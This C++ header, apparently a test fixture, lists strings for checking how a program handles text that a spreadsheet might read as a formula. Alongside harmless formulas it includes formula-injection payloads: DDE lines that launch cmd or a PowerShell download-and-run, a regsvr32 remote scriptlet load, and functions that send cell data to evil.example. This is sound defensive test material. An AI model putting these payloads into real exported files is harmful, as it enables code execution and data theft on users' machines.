// SPDX-FileCopyrightText: 2026 The Ankerpunt authors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include "core/base/literals.h"

#include <QStringList>

namespace ankerpunt::test {

/// What would run, call or show something else where a program takes a text for a formula.
inline QStringList formulas()
{
    return {u"=1+1"_s,
            u"=SUM(A1:A9)"_s,
            u"=cmd|' /C calc'!A0"_s,
            u"=CMD|'/C powershell IEX(wget 0r.pe/p)'!A1"_s,
            u"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")"_s,
            u"=WEBSERVICE(\"http://evil.example/\"&A2)"_s,
            u"=IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")"_s,
            u"=IMPORTDATA(\"http://evil.example\")"_s,
            u"=IMAGE(\"http://evil.example/a.png\")"_s,
            u"=RTD(\"prog\",,\"x\")"_s,
            u"=DDE(\"cmd\",\"/C calc\",\"x\")"_s,
            u"=MSEXCEL|'\\..\\..\\calc.exe'!''"_s,
            u"=rundll32|'URL.dll,OpenURL calc.exe'!A"_s,
            u"=regsvr32|'/s /n /u /i:http://evil.example/a.sct scrobj.dll'!A"_s,
            u"=AND(1,cmd|'/C calc'!A0)"_s,
            u"={1;2}"_s,
            u"=\"a\"&\"b\""_s,
            u"==1+1"_s,
            u"=-1+1"_s,
            u"=+1"_s,
            u"=@A1"_s,
            u"='file:///etc/passwd'#$passwd.A1"_s,
            u"=of:=1+1"_s,
            u"+1+1"_s,
            u"+cmd|' /C calc'!A0"_s,
            u"+HYPERLINK(\"http://evil.example\")"_s,
            u"+31612345678"_s,
            u"+-1"_s,
            u"-1+1"_s,
            u"-2+3+cmd|' /C calc'!A0"_s,
            u"-HYPERLINK(\"http://evil.example\")"_s,
            u"-7,5"_s,
            u"--1"_s,
            u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
            u"@A1"_s,
            u"@SUM(1;1)"_s,
            u"'=1+1"_s,
            u"''=1+1"_s,
            u"=1+1;=2+2"_s,
            u"=1+1,\"=2+2\""_s,
            u"a;=1+1"_s,
            u"\"=1+1"_s,
            u"sep=;"_s};
}

} // namespace ankerpunt::test
